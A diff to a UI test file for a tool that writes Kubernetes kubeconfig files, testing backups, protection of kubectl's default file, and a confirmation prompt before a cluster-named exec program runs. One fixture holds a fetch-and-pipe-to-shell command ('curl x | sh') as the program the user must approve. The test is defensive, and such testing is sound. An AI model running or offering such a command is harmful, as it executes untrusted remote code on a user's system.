@@ -19,13 +19,72 @@ describe("kubeconfig of a cluster", () => {
 
   it("says which program signs in", async () => {
     const { user } = open({
-      save_kubeconfig: () => ({ path: "/k", context: "scoring-01", execCommand: "kubelogin", merged: false, replaced: false, tightened: true }),
+      save_kubeconfig: () => ({
+        outcome: "saved",
+        path: "/k",
+        context: "scoring-01",
+        execCommand: "kubelogin",
+        merged: false,
+        replaced: true,
+        replacedContexts: ["prod", "test"],
+        backup: "/k.bak",
+        tightened: true,
+      }),
     });
     await user.click(await screen.findByTestId("kubeconfig-admin"));
     await user.click(screen.getByTestId("save-kubeconfig"));
     const saved = await screen.findByTestId("kubeconfig-saved");
     expect(saved.textContent).toContain("kubelogin");
     expect(saved.textContent).toContain("now only you can");
+    expect(saved.textContent).toContain("Replaced: prod, test.");
+    expect(saved.textContent).toContain("/k.bak");
+  });
+
+  it("never replaces kubectl's own file", async () => {
+    const { user, host } = open();
+    const merge = await screen.findByTestId("kubeconfig-merge");
+    expect(merge).toHaveProperty("disabled", true);
+    expect(merge).toHaveProperty("checked", true);
+    await user.type(screen.getByTestId("kubeconfig-path"), "/k");
+    await user.click(merge);
+    expect(merge).toHaveProperty("checked", false);
+    await user.clear(screen.getByTestId("kubeconfig-path"));
+    expect(merge).toHaveProperty("checked", true);
+    await user.click(screen.getByTestId("save-kubeconfig"));
+    await screen.findByTestId("kubeconfig-saved");
+    expect(host.calls.findLast(({ command }) => command === "save_kubeconfig")?.args).toMatchObject({ path: "", merge: true });
+  });
+
+  it("shows a program that Azure named before kubectl may run it", async () => {
+    const program = { command: "/bin/sh", args: ["-c", "curl x | sh"], env: [], shown: '"/bin/sh" "-c" "curl x | sh"' };
+    const { user, host } = open({
+      save_kubeconfig: ({ allowedProgram, path }) =>
+        allowedProgram === null
+          ? { outcome: "needs_confirmation", program }
+          : {
+              outcome: "saved",
+              path,
+              context: "scoring-01",
+              execCommand: "/bin/sh",
+              merged: true,
+              replaced: false,
+              replacedContexts: [],
+              backup: null,
+              tightened: false,
+            },
+    });
+    await user.click(await screen.findByTestId("save-kubeconfig"));
+    expect((await screen.findByTestId("kubeconfig-command")).textContent).toBe(program.shown);
+    expect(screen.queryByTestId("kubeconfig-saved")).toBeNull();
+    await expectAccessible();
+    await user.click(screen.getByTestId("kubeconfig-refuse"));
+    expect(screen.queryByTestId("kubeconfig-program")).toBeNull();
+    await user.click(screen.getByTestId("save-kubeconfig"));
+    await user.click(await screen.findByTestId("kubeconfig-allow"));
+    await screen.findByTestId("kubeconfig-saved");
+    const asked = host.calls.filter(({ command }) => command === "save_kubeconfig").map(({ args }) => args);
+    expect(asked).toHaveLength(3);
+    expect(asked.at(-1)).toMatchObject({ allowedProgram: program });
   });
 });
 
